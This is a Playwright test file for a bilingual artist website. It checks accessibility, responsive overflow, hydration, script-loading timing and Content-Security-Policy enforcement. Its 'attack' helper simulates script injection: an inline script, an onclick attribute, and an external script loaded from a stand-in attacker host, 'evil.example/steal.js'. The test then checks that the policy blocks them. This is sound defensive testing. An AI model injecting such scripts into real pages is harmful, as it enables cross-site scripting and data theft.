import { expectAccessible, overflowOf, seeEverything } from './support/axe';
import { expectStrict } from './support/policy';
import { addStyle } from './support/style';
import { expect, test, type Page } from './support/test';
import { watchViolations } from './support/violations';

// Whatever moves or loads on them does so when it is seen.
const lively = ['/', '/de', '/news', '/de/news', '/press', '/biography/aura', '/tours'];
/** Of each type one in each language. */
const pages = [
  ...['/', '/de', '/news', '/de/news', '/news/category/journal', '/de/news/page/2'],
  ...['/2026/08/northbound', '/de/2026/08/northbound'],
  ...['/category/concerts-tours', '/de/tag/piano-keys', '/events', '/de/veranstaltungen'],
  ...['/events/page/2', '/de/vergangene-veranstaltungen'],
  ...['/events/one-note-at-ten-to-nine', '/de/veranstaltungen/the-bowl-and-the-eighty-chairs'],
  ...['/videos', '/de/videos', '/videos/rims', '/de/videos/rims'],
  ...['/music', '/de/musik', '/music/night-grammar', '/de/musik/night-grammar'],
  ...['/tours', '/de/touren', '/tours/music-love-tour', '/de/touren/aura-lune-tour'],
  ...['/biography', '/de/biografie', '/biography/aura', '/de/biografie/lune'],
  ...['/press', '/de/presse', '/search?q=piano', '/de/suche'],
  ...['/contact', '/de/kontakt', '/legal-notices', '/de/haftungsausschluss'],
];
/** More of the same types. */
const more = [
  ...['/category/uncategorized', '/search', '/contact/thanks', '/de/kontakt/danke'],
  ...['/disclaimer', '/de/impressum'],
];
const missing = ['/nope', '/de/nope', '/events/no-such-event', '/search/1/d2ludGVy'];

for (const path of [...pages, ...more, ...missing]) {
  const title = `${path} is accessible, fits every screen, and runs what its policy lets it`;
  test(title, { tag: more.includes(path) ? '@nightly' : [] }, async ({ page }) => {
    test.setTimeout(120_000);
    const violations = await watchViolations(page);
    const isLively = lively.includes(path);
    if (!isLively) await page.emulateMedia({ reducedMotion: 'reduce' });
    await page.setViewportSize({ width: 390, height: 900 });
    const response = await page.goto(path);
    expectStrict(await response!.headerValue('content-security-policy'));
    if (isLively) await seeEverything(page);
    await expectAccessible(page);
    await page.setViewportSize({ width: 1440, height: 900 });
    await seeEverything(page);
    await expectAccessible(page);

    await page.setViewportSize({ width: 320, height: 640 });
    expect(await overflowOf(page)).toBe(0);
    await addStyle(page, 'html { font-size: 200% }');
    expect(await overflowOf(page)).toBe(0);

    await expectHydrated(page);
    // The browser itself writes that a missing page is missing.
    if (missing.includes(path)) expect(violations.stopped).toEqual([]);
    else violations.expectNone();

    await attack(page);
    await expect
      .poll(() => violations.stopped.map((each) => each.split(' ')[1]).sort())
      .toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem']);
    expect(await page.evaluate(() => (window as { isBroken?: string }).isBroken)).toBeUndefined();
  });
}

async function expectHydrated(page: Page): Promise<void> {
  await expect
    .poll(() => page.evaluate(() => Object.keys(document.body).join().includes('__react')))
    .toBe(true);
}

for (const path of ['/', '/de/news', '/2026/08/northbound', '/events', '/press', '/nope']) {
  test(`${path} is seen before it asks for a script`, async ({ page }) => {
    await page.goto(path);
    const { seen, asked } = await page.evaluate(() => ({
      seen: performance.getEntriesByName('first-paint')[0]!.startTime,
      asked: performance
        .getEntriesByType('resource')
        .filter(({ name }) => name.endsWith('.js'))
        .map(({ startTime }) => startTime),
    }));
    expect(asked.length).toBeGreaterThan(3);
    expect(Math.min(...asked)).toBeGreaterThan(seen);
  });
}

/** What a page could be made to do by somebody who got words of theirs into it. */
async function attack(page: Page): Promise<void> {
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.isBroken = "by an inline script"';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.isBroken = "by an attribute"');
    button.click();
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/steal.js';
    document.body.append(foreign);
  });
}
